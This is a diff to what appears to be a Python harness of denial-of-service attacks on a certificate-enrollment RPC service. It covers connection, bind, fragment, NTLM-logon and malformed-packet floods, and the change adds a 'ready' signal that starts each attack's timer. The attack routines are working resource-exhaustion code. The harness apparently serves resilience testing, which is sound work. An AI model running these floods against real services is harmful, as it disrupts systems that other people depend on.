@@ -26,11 +26,16 @@ class Settings:
         self.__dict__.update(values)
         self.icpr, self.epm, self.objects = (self.host, self.port), (self.host, 135), (
             self.host, self.objects_port)
-        self.http, self.end = (self.host, self.http_port), time.monotonic() + self.seconds
+        self.http, self.end = (self.host, self.http_port), time.monotonic() + 240
 
     def account(self, number):
         user, password = self.accounts[number % len(self.accounts)]
         return user, self.domain, password
+
+    def ready(self):
+        """The attack stands: its time begins."""
+        print("ready", flush=True)
+        self.end = time.monotonic() + self.seconds
 
     def goes_on(self):
         return time.monotonic() < self.end
@@ -52,6 +57,7 @@ def drip(settings, openings, data, pause=1.0):
         except OSError:
             closed += 1
     opened, at = len(clients), 0
+    settings.ready()
     while settings.goes_on():
         for client in list(clients):
             try:
@@ -99,7 +105,7 @@ def idle_associations(settings):
     """Logged on, and then nothing."""
     opened, failed = attempts(settings, settings.many,
                               lambda n: Association(settings.icpr, settings.account(n)))
-    settings.end = time.monotonic() + settings.seconds / 4
+    settings.ready()
     closed = hold(settings, [one.socket for one in opened])
     return {"connections": len(opened), "failed": failed, "closed": closed}
 
@@ -109,7 +115,7 @@ def busy_associations(settings):
     """Logged on, each calling again and again: every call is sealed, and looked up in the table."""
     opened, failed = attempts(settings, settings.many // 10 or 1,
                               lambda n: Association(settings.icpr, settings.account(n)))
-    settings.end = time.monotonic() + settings.seconds
+    settings.ready()
     selector, answers = selectors.DefaultSelector(), {}
     retrieval = retrieval_stub(settings.authority)
     for one in opened:
@@ -175,6 +181,7 @@ def slow_logons(settings):
 @attack
 def unfinished_logons(settings):
     """As many NTLM exchanges as can be begun, none of them finished, some on one connection."""
+    settings.ready()
     first = wire.negotiate().getData()
     opened, begun = [], 0
     while settings.goes_on():
@@ -205,6 +212,7 @@ def half_open(settings):
         client.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
         client.close()
     gone, failed = attempts(settings, settings.many, vanish)
+    settings.ready()
     while settings.goes_on():
         time.sleep(0.1)
     return {"connections": len(gone), "failed": failed}
@@ -215,7 +223,7 @@ def fragment_flood(settings):
     """Who may log on sends requests that are as large as they may be, and never ends them."""
     opened, failed = attempts(settings, settings.many // 20 or 1,
                               lambda n: Association(settings.icpr, settings.account(n)))
-    settings.end = time.monotonic() + settings.seconds
+    settings.ready()
     sent, faults = 0, 0
     live = list(opened)
     piece = bytes(5600)
@@ -266,6 +274,7 @@ def claims(settings):
             one.send(one.fragment(0, lie))
             client = one.socket
         return client
+    settings.ready()
     opened = []
     made = failed = 0
     while settings.goes_on():
@@ -284,6 +293,7 @@ def bind_flood(settings):
     """Binds with as many contexts as fit, of all authentication types, again and again."""
     contexts = bind_body([(n, (ICERTPASSAGE, EPM, MGMT)[n % 3]) for n in range(250)])
     token = wire.negotiate().getData()
+    settings.ready()
     binds = connections = 0
     while settings.goes_on():
         try:
@@ -308,6 +318,7 @@ def garbage(settings):
     random.seed(settings.seconds)
     targets = [settings.icpr, settings.epm, settings.objects, settings.http]
     good = pdu(BIND, bind_body([(0, ICERTPASSAGE)]))
+    settings.ready()
     sent = connections = 0
     while settings.goes_on():
         try:
@@ -327,6 +338,7 @@ def garbage(settings):
 @attack
 def connect_flood(settings):
     """Connections as fast as they can be made, from many addresses, kept as long as they last."""
+    settings.ready()
     opened, made, failed = [], 0, 0
     targets = [settings.icpr, settings.epm, settings.objects]
     while settings.goes_on():
@@ -345,6 +357,7 @@ def connect_flood(settings):
 @attack
 def request_flood(settings):
     """Calls on one association, multiplexed, whose answers nobody reads; as somebody and as nobody."""
+    settings.ready()
     sent = connections = 0
     while settings.goes_on():
         one = None
